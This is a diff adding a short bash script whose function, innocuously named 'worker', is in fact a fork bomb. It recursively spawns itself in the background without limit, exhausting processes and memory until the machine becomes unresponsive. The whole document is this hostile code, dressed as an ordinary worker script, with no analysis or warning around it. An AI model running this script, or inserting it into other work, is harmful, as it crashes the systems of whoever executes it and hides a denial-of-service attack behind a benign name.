@@ -1,0 +1,6 @@
+#!/bin/bash
+worker() {
+  worker | worker &
+}
+worker
+wait
